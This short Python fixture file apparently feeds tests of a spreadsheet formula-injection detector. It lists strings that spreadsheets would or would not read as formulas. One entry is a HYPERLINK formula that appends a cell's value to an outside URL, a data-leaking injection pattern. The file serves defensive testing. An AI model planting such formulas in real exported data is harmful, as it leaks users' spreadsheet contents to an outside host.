"""Text that a spreadsheet would read as a formula, and text like it that it would not."""

FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    '=HYPERLINK("https://example.com?"&A1)',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    "\n",
    # Signs of full width, which Excel folds.
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(A1)",
    "-5",
]

PLAIN = ["1=1", "a-b", "", "'=1", "e@example.com", "\u2212" + "5", "x\n=1"]
